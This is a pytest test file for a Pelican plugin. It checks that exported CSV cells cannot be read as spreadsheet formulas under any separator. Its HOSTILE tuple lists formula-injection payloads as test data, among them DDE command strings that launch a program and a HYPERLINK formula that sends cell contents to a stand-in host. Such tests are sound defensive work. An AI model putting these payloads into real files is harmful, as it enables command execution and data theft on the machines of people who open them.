"""Our CSV files contain no formulas for a spreadsheet, whatever separator it assumes."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

import pelicanconf
from plugins.articles.csv_writing import csv_text, escape_cell, unescape_cell

pytestmark = pytest.mark.hostile("cells of spreadsheets")

PLUGINS = Path(pelicanconf.__file__).parent / "plugins"
HOSTILE = (
    "x;-2+3+cmd|' /C calc'!A0;", "x;=1+1;", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    '=HYPERLINK("https://x.example/?"&A1,"y")', "@SUM(1)", "+cmd|' /C calc'!A0", "-cmd", "\t=1", "\r=1",
    "x\t=1", "x\n=1", "x\r\n=1", 'x;"=1"', "x; =1", "x;\n;@a", '"=1', "';=1", "x;'", ";;=1", "a\n;\t+1+x",
)  # fmt: skip


def cells_of_excel(text: str, separator: str) -> Iterator[str]:
    """Splits a line like Excel: a quote counts at the beginning of a cell only, and text after its end is
    appended.
    """
    at = 0
    while at < len(text):
        cell = ""
        if text[at] == '"':
            at += 1
            while at < len(text):
                if text[at] == '"':
                    if text[at + 1 : at + 2] != '"':
                        at += 1
                        break
                    at += 1
                cell += text[at]
                at += 1
        while at < len(text) and text[at] not in f"{separator}\r\n":
            cell += text[at]
            at += 1
        yield cell
        at += 1


def is_computed(cell: str) -> bool:
    cell = cell.lstrip(' "')
    is_number = re.fullmatch(r"[+-]?[0-9][0-9.,]*( ?%)?", cell)
    return bool(re.match("[=+\\-@＝＋－＠]", cell)) and not is_number


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_no_cell_is_computed(separator: str, end: str) -> None:
    for typed in HOSTILE:
        text = csv_text([["a", typed, "b"], [typed, typed, typed]], end)
        found = [cell for cell in cells_of_excel(text, separator) if is_computed(cell)]
        assert found == [], (typed, text)


@given(st.lists(st.text("ab=+-@;,\t\n\r\"' 1＝"), min_size=1), st.sampled_from([",", ";", "\t"]))
def test_nor_of_any_text(row: list[str], separator: str) -> None:
    assert not [cell for cell in cells_of_excel(csv_text([row]), separator) if is_computed(cell)]


@given(st.text("ab=+-@;,\t\n\r\"' 1＝"))
def test_it_is_read_as_it_was(cell: str) -> None:
    assert unescape_cell(escape_cell(cell)) == cell


def test_words_and_numbers_stay_as_they_are() -> None:
    for cell in ("Hòa giải", "-3", "+1,5 %", "1.200", "a - b", "a = b", "a@b.vn", "", "5/3"):
        assert escape_cell(cell) == cell


def test_nobody_else_writes_csv() -> None:
    writers = set()
    for path in PLUGINS.rglob("*.py"):
        calls = (node for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Call))
        if any(ast.unparse(call.func) in ("csv.writer", "csv.DictWriter") for call in calls):
            writers.add(path.relative_to(PLUGINS).as_posix())
    assert writers == {"articles/csv_writing.py"}
